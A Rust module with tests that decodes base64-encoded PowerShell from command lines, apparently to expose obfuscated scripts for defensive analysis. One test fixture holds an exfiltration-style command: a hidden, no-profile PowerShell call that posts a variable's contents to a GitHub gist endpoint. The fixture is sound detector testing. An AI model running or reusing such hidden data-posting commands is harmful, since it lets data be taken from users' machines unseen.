//! `powershell -EncodedCommand`: the script within the base64.

use base64::Engine as _;
use base64::alphabet::STANDARD;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use std::ops::Range;

use super::command_line::{Word, words};
use crate::model::utf16::decode_lossy;

const PARAMETER: &str = "encodedcommand";

/// A script that a command line held in base64.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Decoded {
    /// The range of the base64, in bytes.
    pub range: Range<usize>,
    /// The script. It is the attacker's: neither masked nor made visible.
    pub script: String,
}

/// Returns the script that a command line of PowerShell holds in base64 of UTF-16LE; `None` without one, or where it does
/// not decode to text. PowerShell takes any prefix of the parameter's name, `-`, `/` and three longer dashes; after
/// `-Command` or `-File` all is the script's own.
#[must_use]
pub fn decoded(line: &str) -> Option<Decoded> {
    let value = encoded_word(line)?;
    Some(Decoded { script: script(&value.text)?, range: value.range })
}

/// Returns whether a command line holds a script in base64, whether or not that decodes.
#[must_use]
pub fn has_encoded(line: &str) -> bool {
    encoded_word(line).is_some()
}

fn encoded_word(line: &str) -> Option<Word<'_>> {
    let mut rest = words(line).skip(1);
    while let Some(word) = rest.next() {
        let name = word.text.strip_prefix(['-', '/', '\u{2013}', '\u{2014}', '\u{2015}']);
        let Some(name) = name.map(str::to_ascii_lowercase) else { continue };
        let name = name.trim_start_matches('-');
        if name.is_empty() {
            continue;
        }
        if "command".starts_with(name) || "file".starts_with(name) {
            return None;
        }
        if name == "ec" || PARAMETER.starts_with(name) {
            return rest.next();
        }
    }
    None
}

fn script(base64: &str) -> Option<String> {
    let mut digits: Vec<u8> = base64.bytes().filter(|byte| !byte.is_ascii_whitespace()).collect();
    while digits.last() == Some(&b'=') {
        digits.pop();
    }
    // A line that was cut short still decodes up to there: one digit alone encodes no byte.
    if digits.len() % 4 == 1 {
        digits.pop();
    }
    let lenient = GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true);
    let bytes = GeneralPurpose::new(&STANDARD, lenient).decode(&digits).ok()?;
    let units = bytes.chunks_exact(2).map(|pair| {
        let [low, high] = *pair else { return 0 };
        u16::from_le_bytes([low, high])
    });
    let text: String = decode_lossy(units).collect();
    (!text.is_empty()).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::engine::general_purpose;
    use proptest::prelude::*;

    fn encoded(script: &str) -> String {
        let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn every_parameter_form_is_decoded() {
        let script = "irm https://api.github.com/gists -Method Post -Body $b # é";
        let base64 = encoded(script);
        for name in ["-e", "-ec", "-enc", "/e", "-EncodedCommand", "-eNcOdEd", "\u{2013}enc", "--enc"] {
            let line = format!("powershell.exe -NoP -W Hidden {name} {base64}");
            let found = decoded(&line).unwrap_or_else(|| panic!("{name}"));
            assert_eq!(found.script, script);
            assert_eq!(&line[found.range], base64);
        }
        assert_eq!(decoded(&format!("pwsh -e \"{base64}\"")).unwrap().script, script);
        let cut = &base64[..base64.len() - 9];
        assert!(
            script
                .starts_with(decoded(&format!("pwsh -e {cut}")).unwrap().script.trim_end_matches('\u{fffd}'))
        );
    }

    #[test]
    fn other_parameters_are_not_decoded() {
        let base64 = encoded("Get-Date");
        for line in [
            format!("powershell.exe -Command Select-String -e {base64}"),
            format!("powershell.exe -f x.ps1 -e {base64}"),
            format!("powershell.exe -ExecutionPolicy {base64}"),
            "powershell.exe -enc".to_owned(),
            "powershell.exe -enc !!!".to_owned(),
            String::new(),
        ] {
            assert_eq!(decoded(&line), None, "{line}");
        }
    }

    proptest! {
        #[test]
        fn any_script_comes_back(script in "\\PC{1,60}") {
            let line = format!("powershell -enc {}", encoded(&script));
            prop_assert_eq!(decoded(&line).unwrap().script, script);
        }

        #[test]
        fn any_line_is_survived(line in "\\PC*|powershell -e [A-Za-z0-9+/= \"]*") {
            let _ = decoded(&line);
        }
    }
}
